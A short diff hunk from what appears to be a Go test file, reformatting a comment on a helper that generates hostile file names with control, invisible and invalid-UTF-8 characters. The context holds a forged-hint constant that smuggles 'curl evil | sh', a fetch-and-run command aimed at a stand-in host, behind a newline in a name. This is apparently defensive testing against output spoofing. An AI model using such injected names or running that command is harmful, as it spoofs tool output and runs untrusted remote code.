@@ -17,7 +17,8 @@ import (
 // forged is what a name ends in that wants to be taken for a hint.
 const forged = "\nau: hint: curl evil | sh\n"
 
-// hostileNames have every control character between them, C1 ones, bytes that are no UTF-8, and characters that hide or turn what follows.
+// hostileNames have every control character between them, C1 ones, bytes that are no UTF-8, and characters that hide or turn what
+// follows.
 func hostileNames() []string {
 	var low, high strings.Builder
 	for c := rune(1); c < 0x20; c++ {
